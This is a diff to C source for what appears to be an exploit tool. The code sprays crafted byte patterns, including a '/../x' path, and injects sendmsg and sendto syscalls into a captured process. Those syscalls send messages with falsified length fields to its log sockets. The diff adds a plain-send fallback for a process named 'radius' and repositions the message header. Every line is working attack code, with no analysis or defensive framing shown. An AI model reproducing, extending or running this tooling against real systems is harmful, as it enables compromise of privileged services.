@@ -42,8 +42,9 @@ static const char patterns[SPRAY_PATTERNS][17] = {
 	"/../x\0\0\x80\xff\xff\xff\x7f\0\0\0\x80",
 };
 
-/* Where things are in the captured process's spare memory. */
-enum { MSGHDR_AT = 0, CONTROL_AT = 64, HEADER_AT = 192, BODY_AT = 256,
+/* Where things are in the captured process's spare memory: the header ends where
+ * the body begins. */
+enum { MSGHDR_AT = 0, CONTROL_AT = 64, BODY_AT = 256, HEADER_AT = BODY_AT - 8,
 	IOVECS_AT = BODY_AT + PIECE };
 
 /* As many descriptors of its own log socket. */
@@ -71,12 +72,27 @@ put_descriptors(struct captive *c, struct msghdr *msg, size_t count)
 
 static size_t sent;
 
+/* From a process that may not send descriptors (radius): one piece. */
+static void
+send_plain(struct captive *c, size_t len)
+{
+	if (len > PIECE)
+		len = PIECE;
+	for (uint64_t fd = FD_FIRST; fd < FD_END; fd++) {
+		const uint64_t args[6] = { fd, c->data_at + HEADER_AT,
+			BODY_AT - HEADER_AT + len,
+			MSG_DONTWAIT | MSG_NOSIGNAL };
+		sent += inject_syscall(c, SYS_sendto, args) > 0;
+	}
+}
+
 /* The message, `len` bytes of body and so many descriptors, on all sockets. */
 static void
 send_everywhere(struct captive *c, uint32_t type, size_t claimed, size_t len,
 	size_t fds)
 {
 	const uint32_t header[2] = { type, (uint32_t)claimed };
+	const size_t body = len;
 	struct iovec list[PIECES] = { { (void *)(uintptr_t)inject_put(c,
 		HEADER_AT, header, sizeof(header)), sizeof(header) } };
 	size_t n = 1;
@@ -97,8 +113,10 @@ send_everywhere(struct captive *c, uint32_t type, size_t claimed, size_t len,
 		const uint64_t args[6] = { fd, at,
 			MSG_DONTWAIT | MSG_NOSIGNAL };
 		long result = inject_syscall(c, SYS_sendmsg, args);
-		if (result == -ENOSYS)
+		if (result == -ENOSYS) {
+			send_plain(c, body);
 			return;
+		}
 		sent += result > 0;
 	}
 }
